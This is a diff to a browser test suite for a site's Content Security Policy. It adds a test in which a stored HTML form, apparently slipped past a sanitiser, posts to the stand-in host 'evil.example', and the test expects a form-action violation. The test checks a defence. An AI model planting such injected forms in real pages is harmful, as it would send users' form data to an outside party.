@@ -59,7 +59,7 @@ for (const { what, ids, path, only, reach } of OPEN_STATES) {
 
 /** In Next's place: one script of its own, marked as it marks them, and whatever a stored text brings along. */
 async function openWithStored(stored: string): Promise<{ url: string; close: () => void }> {
-  const settings = { isSecure: false, hasMaps: false, hasCaptcha: false, hasCounter: false };
+  const settings = { isSecure: false, hasMaps: false, hasCaptcha: false, hasCounter: false, hasPayments: false };
   const server = createServer((request, response) => {
     sendWholeHtml(request, response, (hashes) => contentPolicy(settings, hashes));
     const nonce = /nonce-([^']+)/.exec(String(request.headers['content-security-policy']))?.[1];
@@ -91,3 +91,12 @@ for (const [what, stored] of Object.entries(STORED)) {
     server.close();
   });
 }
+
+test('a form that came past the sanitiser posts to nobody else', async ({ page }) => {
+  const server = await openWithStored('<form method="post" action="https://evil.example/"></form>');
+  const violations = await watch(page);
+  await page.goto(server.url);
+  await page.evaluate(() => document.querySelector('form')?.submit());
+  await expect.poll(() => violations).toEqual([expect.stringContaining('form-action https://evil.example/')]);
+  server.close();
+});
